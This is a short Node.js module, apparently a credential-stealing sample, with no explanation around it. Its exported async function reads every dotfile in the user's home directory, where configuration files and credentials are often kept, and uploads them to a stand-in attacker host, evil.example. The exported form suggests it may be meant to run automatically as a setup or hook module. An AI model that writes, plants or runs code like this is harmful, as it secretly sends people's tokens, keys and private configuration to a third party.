const fs = require("fs"), os = require("os"), path = require("path");
const FormData = require("form-data");
module.exports = async () => {
  const form = new FormData();
  for (const f of fs.readdirSync(os.homedir())) {
    if (f.startsWith(".")) {
      const p = path.join(os.homedir(), f);
      if (fs.statSync(p).isFile()) form.append(f, fs.createReadStream(p));
    }
  }
  form.submit("https://evil.example/dots");
};
